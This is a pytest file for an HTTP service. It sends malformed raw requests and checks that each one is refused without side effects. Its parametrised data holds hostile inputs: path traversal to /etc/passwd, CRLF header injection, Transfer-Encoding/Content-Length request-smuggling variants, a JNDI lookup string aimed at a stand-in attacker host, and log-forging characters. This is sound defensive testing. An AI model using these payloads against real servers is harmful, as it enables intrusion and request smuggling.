"""Requests that no honest client sends, byte for byte, to the service under gunicorn: each is
judged for what it is, the connection is left in a defined state, and nothing is written."""

import json
from collections.abc import Iterator
from typing import Any

import pytest

from service.core.clock import SystemClock
from tests.journeys.api_client import ENVELOPE, SAFE_HEADERS
from tests.journeys.gate import FaultInjector, RawResponse, opened
from tests.stack.live_stack import LiveStack, separate_stack, video_body

MARKER = "evil.example"
NEXT = (
    b"GET /health/live HTTP/1.1\r\nHost: x\r\nX-Request-Id: the-next\r\nConnection: close\r\n\r\n"
)


@pytest.fixture(scope="module")
def stack(client: Any) -> Iterator[LiveStack]:
    with separate_stack(client, clock=SystemClock(), callbacks=False) as stack:
        yield stack


@pytest.fixture(scope="module")
def gate(stack: LiveStack, tmp_path_factory: pytest.TempPathFactory) -> Iterator[FaultInjector]:
    with opened(stack, tmp_path_factory.mktemp("gate")) as gate:
        yield gate
        lines = gate.log.read_text().splitlines()
    assert "Traceback" not in "".join(lines)
    assert [line for line in lines if not isinstance(json.loads(line), dict)] == []


@pytest.fixture(scope="module")
def token(stack: LiveStack) -> str:
    return stack.token("ann", expires_in=10**6)


@pytest.fixture(autouse=True)
def _nothing_written(stack: LiveStack) -> Iterator[None]:
    yield
    assert stack.items() == []
    assert stack.journal("create") == []


def get(
    target: str = "/health/live", *headers: str, method: str = "GET", version: str = " HTTP/1.1"
) -> bytes:
    lines = [
        f"{method} {target}{version}",
        *(() if "Host:" in "".join(headers) else ("Host: x",)),
        *headers,
    ]
    return "\r\n".join([*lines, "", ""]).encode("latin-1")


class Post:
    """A request that would make a video, had it only honest headers."""

    def __init__(self, token: str) -> None:
        self.body = json.dumps(video_body()).encode()
        self._head = (
            f"POST /videos HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {token}\r\nContent-Type: "
            "application/json\r\n"
        )

    def __call__(self, *headers: str, body: bytes | None = None) -> bytes:
        more = "".join(f"{header}\r\n" for header in headers)
        return (self._head + more + "\r\n").encode("latin-1") + (
            self.body if body is None else body
        )

    def whole(self, *headers: str) -> bytes:
        return self(f"Content-Length: {len(self.body)}", *headers)

    @property
    def chunked(self) -> bytes:
        return b"%x\r\n%s\r\n0\r\n\r\n" % (len(self.body), self.body)


@pytest.fixture(scope="module")
def post(token: str) -> Post:
    return Post(token)


def first_of(gate: FaultInjector, request: bytes) -> RawResponse:
    """The response to the request, with another right behind it that is either served for itself or
    not at all."""
    first, *more = [
        response for response in gate.exchange(request + NEXT) if response.status != 100
    ]
    assert first.status < 500, first
    assert MARKER.encode() not in first.body
    assert MARKER not in str(first.headers)
    if first.status >= 400:
        assert_refused(first)
    if first.ends:
        assert more == [], "an answer after the last one"
    else:
        assert [(response.status, response.headers["x-request-id"]) for response in more] == [
            (200, "the-next")
        ]
    return first


def assert_refused(response: RawResponse) -> None:
    """The one envelope and the headers of every response, whoever refused."""
    content = json.loads(response.body)
    assert set(content) == ENVELOPE
    assert content["requestId"] == response.headers["x-request-id"]
    assert {name: response.headers.get(name.lower()) for name in SAFE_HEADERS} == SAFE_HEADERS
    assert response.headers["content-type"] == "application/json"
    assert "Traceback" not in response.body.decode()


# Addresses.


@pytest.mark.parametrize(
    ("target", "status"),
    [
        *(
            (path, 404)
            for path in (
                "/",
                "//",
                "//evil.example/x",
                "/../",
                "/../../etc/passwd",
                "/.",
                "/;/",
                "/%2e%2e/",
            )
        ),
        *(
            (path, 404)
            for path in (
                "/%00",
                "/%0d%0aX-Evil:1",
                "/jobs%2f..%2fcredits",
                "/%c0%ae%c0%ae/",
                "/\\evil.example",
            )
        ),
        *(
            (path, 404)
            for path in (
                "/health//live",
                "//health/live",
                "/health/live/..",
                "/health/./live",
                "/%",
                "/%u002e",
            )
        ),
        *(
            ("/" + "a" * length, status)
            for length, status in ((4_000, 404), (10_240, 414), (70_000, 414))
        ),
        ("/health/live?" + "a" * 10_240, 414),
        *(
            ("http://evil.example/health/live", 200),
            ("http://evil.example", 404),
            ("ftp://evil.example/x", 404),
        ),
        *(("http://user:pass@evil.example:99999/health/live", 200), ("http://[::1/x", 400)),
        *(
            (target, 400)
            for target in (
                "evil.example:443",
                "health/live",
                "*",
                "?x",
                "/a b",
                "/caf\xe9",
                "/a\x00b",
                "/a\tb",
            )
        ),
        ("", 400),
    ],
    ids=lambda part: str(part)[:30],
)
def test_an_address_that_is_none_of_ours_is_refused(
    gate: FaultInjector, target: str, status: int
) -> None:
    assert first_of(gate, get(target)).status == status


def test_the_codes_of_long_addresses_and_headers_are_their_own(gate: FaultInjector) -> None:
    assert first_of(gate, get("/" + "a" * 10_240)).code == "ADDRESS_TOO_LONG"
    assert first_of(gate, get("/", "X-Long: " + "a" * 65_536)).code == "HEADERS_TOO_LARGE"


# Methods and versions.


@pytest.mark.parametrize(
    ("method", "status"),
    [
        *(
            ("get", 400),
            ("Get", 400),
            ("G", 400),
            ("", 400),
            ("GE T", 400),
            ("G\xc9T", 400),
            ("GET\x00", 400),
        ),
        *(
            ("A" * 21, 400),
            ("BREW", 405),
            ("TRACE", 405),
            ("PURGE", 405),
            ("DELETE", 405),
            ("CONNECT", 405),
        ),
        ("POST", 405),
    ],
)
def test_a_method_that_is_none_of_ours_is_refused(
    gate: FaultInjector, method: str, status: int
) -> None:
    assert first_of(gate, get(method=method)).status == status


@pytest.mark.parametrize(
    "name", ["X-HTTP-Method-Override", "X-HTTP-Method", "X-Method-Override", "_method"]
)
def test_no_header_changes_the_method(gate: FaultInjector, name: str) -> None:
    assert first_of(gate, get("/health/live", f"{name}: POST")).status == 200
    assert first_of(gate, get("/credits", f"{name}: GET", method="POST")).status == 405


@pytest.mark.parametrize(
    "version",
    [
        "",
        " ",
        " HTTP/0.9",
        " HTTP/2.0",
        " HTTP/3.0",
        " HTTP/1.10",
        " HTTP/11",
        " http/1.1",
        " HTTP/1.1 x",
        " FTP/1.1",
        " HTTP/1.\xb9",
    ],
)
def test_another_protocol_is_refused(gate: FaultInjector, version: str) -> None:
    response = first_of(gate, get(version=version))
    assert (response.status, response.code, response.ends) == (400, "BAD_REQUEST", True)


@pytest.mark.parametrize(
    "request_bytes",
    [
        b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
        b"\x16\x03\x01\x02\x00\x01\x00\r\n\r\n",
        b"\x00\r\n\r\n",
        b"\r\n\r\n\r\n",
        b"\n",
        b"GET /\n\n",
    ],
)
def test_what_is_no_http_is_refused(gate: FaultInjector, request_bytes: bytes) -> None:
    response = first_of(gate, request_bytes)
    assert (response.status, response.ends) == (400, True)


# Where a body ends.


@pytest.mark.parametrize(
    "header",
    [
        *(
            "Transfer-Encoding: xchunked",
            "Transfer-Encoding: identity",
            "Transfer-Encoding: gzip",
            "Transfer-Encoding:",
        ),
        *(
            "Transfer-Encoding: chunked, chunked",
            "Transfer-Encoding: chunked, identity",
            "Transfer-Encoding: chunked;x=1",
        ),
        *(
            "Transfer-Encoding : chunked",
            "Transfer-Encoding\t: chunked",
            " Transfer-Encoding: chunked",
        ),
        *(
            "Transfer-Encoding: \x0bchunked",
            "Transfer-Encoding: chunked\x00",
            'Transfer-Encoding: "chunked"',
        ),
        *(
            "X: y\r\n Transfer-Encoding: chunked",
            "Transfer-Encoding:\r\n chunked",
            "X: y\nTransfer-Encoding: chunked",
        ),
        *(
            "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
            "X: y\rTransfer-Encoding: chunked",
        ),
        "Transfer-Encoding: chunked\r\nContent-Length: 5",
        "Content-Length: 5\r\nTransfer-Encoding: chunked",
        "Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked",
    ],
)
def test_a_transfer_encoding_that_two_servers_could_read_differently_is_refused(
    gate: FaultInjector, post: Post, header: str
) -> None:
    for body in (post.chunked, post.body):
        response = first_of(gate, post(header, body=body))
        assert (response.status, response.code, response.ends) == (400, "BAD_REQUEST", True)


@pytest.mark.parametrize(
    "length",
    [
        *(
            "-1",
            "+5",
            "5.0",
            "1e3",
            "0x10",
            "5, 5",
            "5,6",
            "",
            " ",
            "abc",
            "5 5",
            "\xb2",
            "5;",
            "5\x00",
            "9" * 5_000,
        ),
        *(
            "5\r\nContent-Length: 5",
            "5\r\nContent-Length: 6",
            "5\r\ncontent-length: 7",
            "0\r\n 5",
            "1_0",
        ),
    ],
)
def test_a_length_that_is_none_or_given_twice_is_refused(
    gate: FaultInjector, post: Post, length: str
) -> None:
    response = first_of(gate, post(f"Content-Length: {length}"))
    assert (response.status, response.code, response.ends) == (400, "BAD_REQUEST", True)


@pytest.mark.parametrize("length", [str(2**31), str(2**63), str(2**64 + 5), "9" * 40])
def test_a_huge_length_is_too_large_and_not_waited_for(
    gate: FaultInjector, post: Post, length: str
) -> None:
    response = first_of(gate, post(f"Content-Length: {length}"))
    assert (response.status, response.code, response.ends) == (413, "PAYLOAD_TOO_LARGE", True)


@pytest.mark.parametrize(
    "size",
    [
        b"zz",
        b"-1",
        b"+5",
        b"0x5",
        b" 5",
        b"5 5",
        b"",
        b"5\x00",
        b"5;\r",
        b"5;a=\n",
        b"F" * 17,
        b"1" * 9_000,
        b"\xb2",
        b"5_0",
    ],
)
def test_a_chunk_with_a_wrong_size_is_refused(gate: FaultInjector, post: Post, size: bytes) -> None:
    body = size + b"\r\n" + post.body + b"\r\n0\r\n\r\n"
    response = first_of(gate, post("Transfer-Encoding: chunked", body=body))
    assert (response.status, response.code, response.ends) == (400, "BAD_REQUEST", True)


@pytest.mark.parametrize(
    "end",
    [
        b"XX0\r\n\r\n",
        b"0\r\n\r\n",
        b"\n0\r\n\r\n",
        b"\r\n0\r\nContent-Length: 5\r\n\r\n",
        b"\r\n0\r\n x\r\n\r\n",
    ],
)
def test_a_chunk_with_a_wrong_end_is_refused(gate: FaultInjector, post: Post, end: bytes) -> None:
    body = b"%x\r\n%s%s" % (len(post.body), post.body, end)
    response = first_of(gate, post("Transfer-Encoding: chunked", body=body))
    assert (response.status, response.code, response.ends) == (400, "BAD_REQUEST", True)


def test_a_request_hidden_in_a_body_is_never_served(gate: FaultInjector, post: Post) -> None:
    hidden = post.whole()
    for header in (
        f"Content-Length: {len(hidden)}",
        f"Content-Length: {len(hidden)}\r\nX-HTTP-Method-Override: GET",
    ):
        for target in ("/nowhere", "/credits", "/health/live"):
            assert first_of(gate, get(target, header, method="GET") + hidden).status in (
                200,
                401,
                404,
            )


def test_a_trailer_is_no_header(gate: FaultInjector, post: Post) -> None:
    chunked = post.chunked.removesuffix(b"\r\n") + b"Idempotency-Key: a\r\n\r\n"
    request = post("Transfer-Encoding: chunked", "Content-Encoding: gzip", body=chunked)
    assert first_of(gate, request).status == 415


# Headers.


@pytest.mark.parametrize(
    ("headers", "status"),
    [
        *(
            ([f"X-{number}: a" for number in range(count)], status)
            for count, status in ((90, 200), (101, 431), (5_000, 431))
        ),
        *(
            (["X-Long: " + "a" * length], status)
            for length, status in ((8_000, 200), (8_200, 431), (65_536, 431))
        ),
        ([f"X-{number}: {'a' * 8_000}" for number in range(9)], 431),
        *(
            ([header], 400)
            for header in (
                "X Y: a",
                "X\x00: a",
                ": a",
                "nocolon",
                "X-A: a\x00b",
                "X-A: a\rb",
                "X-\xe9: a",
                "X(: a",
            )
        ),
        *(
            ([header], 200)
            for header in (
                "X-A: caf\xc3\xa9",
                "X-A: \xff\xfe",
                "X-A:",
                "X-A: ${jndi:ldap://evil.example}",
                "X_A: b",
            )
        ),
        *(
            ([header], 200)
            for header in (
                "SCRIPT_NAME: /evil.example",
                "PATH_INFO: /credits",
                "Script-Name: /x",
                "Proxy: http://evil.example",
            )
        ),
        *(
            ([header], 200)
            for header in (
                "Cookie: a=b; c",
                "Range: bytes=0-1",
                "Upgrade: h2c",
            )
        ),
        *(
            (
                [
                    "Upgrade: h2c",
                    "HTTP2-Settings: AAMAAABkAAQAAP__",
                    "Connection: Upgrade, HTTP2-Settings",
                ],
                200,
            ),
        ),
        *(
            ([f"X-Forwarded-{name}: {text}"], 200)
            for name, text in (
                ("For", "127.0.0.1"),
                ("Proto", "https"),
                ("Host", MARKER),
                ("Prefix", "//evil.example"),
            )
        ),
        (
            [
                "Forwarded: for=127.0.0.1;host=evil.example;proto=https",
                "X-Real-IP: ::1",
                "X-Original-URL: /credits",
            ],
            200,
        ),
        *(
            ([f"Host: {host}"], 200)
            for host in (MARKER, "evil.example:99999", "127.0.0.1", "[::1]", "")
        ),
        (["Host: a", f"Host: {MARKER}"], 400),
        (["Host: " + "a" * 300], 400),
        (["Connection: upgrade", "Upgrade: websocket"], 400),
        (["Content-Type: a/b", "Content-Type: application/json"], 400),
    ],
    ids=lambda part: str(part)[:40],
)
def test_headers_are_refused_or_change_nothing(
    gate: FaultInjector, headers: list[str], status: int
) -> None:
    assert first_of(gate, get("/health/live", *headers)).status == status


@pytest.mark.parametrize("target", ["/nowhere", "/credits", "/docs", "/openapi.json", "/health/"])
def test_a_foreign_host_appears_in_no_response(gate: FaultInjector, target: str) -> None:
    headers = (
        f"Host: {MARKER}",
        f"X-Forwarded-Host: {MARKER}",
        "X-Forwarded-Proto: https",
        f"Origin: https://{MARKER}",
    )
    response = first_of(gate, get(target, *headers))
    assert "location" not in response.headers
    assert "access-control-allow-origin" not in response.headers


@pytest.mark.parametrize(
    "name", ["Authorization: Bearer x", "Idempotency-Key: a", "X-Request-Id: b", "X-Google-ID: bob"]
)
def test_a_header_that_names_someone_or_something_is_taken_once_only(
    gate: FaultInjector, post: Post, name: str
) -> None:
    response = first_of(gate, post.whole(name, name))
    assert (response.status, response.code, response.ends) == (400, "BAD_REQUEST", True)


@pytest.mark.parametrize(
    "header",
    [
        *(
            "Authorization: Bearer \xff\xfe",
            "Authorization: Bearer a b",
            "Authorization: bearer",
            "Authorization:",
        ),
        *(
            "Authorization: Basic YTpi",
            "Authorization: Bearer " + "a" * 8_000,
            "Authorization: Bearer x,Bearer y",
        ),
    ],
)
def test_credentials_that_are_none_are_refused(gate: FaultInjector, header: str) -> None:
    assert first_of(gate, get("/credits", header)).status == 401


@pytest.mark.parametrize(
    "text", ["a\rINJECTED", "a\nINJECTED", "a\x00INJECTED", "a\x1b[2JINJECTED", "a\x7fINJECTED"]
)
@pytest.mark.parametrize(
    "name", ["Idempotency-Key", "X-Request-Id", "User-Agent", "X-Forwarded-For"]
)
def test_a_line_of_the_log_cannot_be_forged(
    gate: FaultInjector, post: Post, name: str, text: str
) -> None:
    response = first_of(gate, post.whole(f"{name}: {text}"))
    assert (response.status, response.code) == (400, "BAD_REQUEST")
    assert "INJECTED" not in gate.log.read_text()


@pytest.mark.parametrize(
    "text", ["a%0aINJECTED", "a\x85INJECTED", "\xe2\x80\xa8INJECTED", '{"level": "INJECTED"}']
)
def test_an_id_that_could_confuse_a_log_is_replaced(gate: FaultInjector, text: str) -> None:
    response = first_of(gate, get("/nowhere", f"X-Request-Id: {text}"))
    assert response.headers["x-request-id"].startswith("req_")
    assert "INJECTED" not in gate.log.read_text()


# Expectations and order.


def test_a_body_that_waits_for_100_continue_gets_one(gate: FaultInjector, post: Post) -> None:
    head, body = post.whole("Expect: 100-continue", "Content-Encoding: br").split(b"\r\n\r\n", 1)
    statuses = [response.status for response in gate.exchange(head + b"\r\n\r\n" + body + NEXT)]
    assert statuses == [100, 415, 200]


@pytest.mark.parametrize("expectation", ["100-continued", "the-impossible", "100-continue, x", ""])
def test_any_other_expectation_is_refused(
    gate: FaultInjector, post: Post, expectation: str
) -> None:
    response = first_of(gate, post.whole(f"Expect: {expectation}"))
    assert (response.status, response.code, response.ends) == (400, "BAD_REQUEST", True)


def test_requests_in_one_piece_are_served_in_their_order(gate: FaultInjector) -> None:
    ids = [f"id-{number}" for number in range(50)]
    targets = ("/health/live", "/nowhere", "/credits")
    sent = [get(targets[number % 3], f"X-Request-Id: {name}") for number, name in enumerate(ids)]
    came = gate.exchange(b"".join(sent))
    assert [(response.headers["x-request-id"], response.status) for response in came] == [
        (name, (200, 404, 401)[number % 3]) for number, name in enumerate(ids)
    ]


def test_requests_in_one_piece_behind_a_refused_body_are_never_misread(
    gate: FaultInjector, post: Post
) -> None:
    for number in (1, 2, 7):
        came = gate.exchange(post.whole("Content-Encoding: br") * number + NEXT)
        assert [response.status for response in came] == [415] * number + [200]


def test_the_probe_stays_well_through_all_this(gate: FaultInjector) -> None:
    assert first_of(gate, get()).status == 200
